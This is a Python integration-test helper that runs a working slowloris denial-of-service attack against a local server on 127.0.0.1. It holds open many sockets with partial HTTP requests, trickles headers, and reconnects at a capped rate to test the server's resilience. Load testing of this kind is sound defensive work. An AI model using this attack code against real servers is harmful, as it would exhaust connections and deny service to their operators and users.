"""A slowloris attacker as a separate process: N raw sockets that send a partial request, stall,
trickle a header line now and then, and reconnect (rate-limited) whenever the server drops them.

Run: ``python -m tests.integration.server.slowloris PORT CLIENTS``. Prints ``ready`` once every
client connected once, and a JSON line of counters when it gets SIGTERM.
"""

from __future__ import annotations

import contextlib
import resource
import selectors
import signal
import socket
import sys
import time

import orjson

HEAD = b"GET /api/pipelines HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
TRICKLE = b"X-Slow: 1\r\n"
TRICKLE_EVERY_S = 1.0
RECONNECTS_PER_S = 200.0


class Attack:
    def __init__(self, port: int, clients: int) -> None:
        self.addr = ("127.0.0.1", port)
        self.clients = clients
        self.sel = selectors.DefaultSelector()
        self.alive: set[socket.socket] = set()
        self.stats = {"connects": 0, "connect_failures": 0, "dropped_by_server": 0, "trickles": 0}
        self.stop = False

    def open_one(self) -> None:
        sock = socket.socket()
        sock.settimeout(0.5)
        try:
            sock.connect(self.addr)
            sock.setblocking(False)
            sock.send(HEAD)
        except OSError:
            self.stats["connect_failures"] += 1
            sock.close()
            return
        self.stats["connects"] += 1
        self.alive.add(sock)
        self.sel.register(sock, selectors.EVENT_READ)

    def drop(self, sock: socket.socket) -> None:
        self.sel.unregister(sock)
        self.alive.discard(sock)
        sock.close()

    def run(self) -> None:
        for _ in range(self.clients):
            self.open_one()
        print("ready", flush=True)
        budget, last, last_trickle = 0.0, time.monotonic(), time.monotonic()
        while not self.stop:
            for key, _ in self.sel.select(timeout=0.05):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    data = sock.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    self.stats["dropped_by_server"] += 1
                    self.drop(sock)
            now = time.monotonic()
            budget = min(RECONNECTS_PER_S, budget + (now - last) * RECONNECTS_PER_S)
            last = now
            while len(self.alive) < self.clients and budget >= 1 and not self.stop:
                budget -= 1
                self.open_one()
            if now - last_trickle >= TRICKLE_EVERY_S:
                last_trickle = now
                for sock in list(self.alive):
                    with contextlib.suppress(OSError):
                        sock.send(TRICKLE)
                        self.stats["trickles"] += 1
        self.stats["alive_at_end"] = len(self.alive)
        print(orjson.dumps(self.stats).decode(), flush=True)


def main() -> None:
    port, clients = int(sys.argv[1]), int(sys.argv[2])
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, clients + 256), hard))
    attack = Attack(port, clients)

    def stop(_signum: int, _frame: object) -> None:
        attack.stop = True

    signal.signal(signal.SIGTERM, stop)
    attack.run()


if __name__ == "__main__":
    main()
